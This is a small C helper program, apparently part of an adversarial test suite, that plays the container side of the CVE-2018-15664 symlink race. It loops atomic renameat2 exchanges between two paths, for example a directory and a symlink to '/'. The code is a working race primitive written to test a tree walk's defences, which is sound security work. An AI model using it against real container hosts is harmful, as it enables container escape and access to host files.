/* A hostile container's half of the CVE-2018-15664 race (test/adversarial/tree-walk-race.test.ts).
 * Built static by the test with musl-gcc and bind-mounted into the container.
 *   swap-exchange A B    swaps the names A and B atomically (renameat2 RENAME_EXCHANGE) in a tight
 *                        loop, forever: both names always exist, each alternately the one and the
 *                        other file (a directory and a symlink to "/", a file and a FIFO...). */
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RENAME_EXCHANGE 2

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: swap-exchange A B\n");
		return 2;
	}
	for (;;)
		if (syscall(SYS_renameat2, -100, argv[1], -100, argv[2], RENAME_EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
}
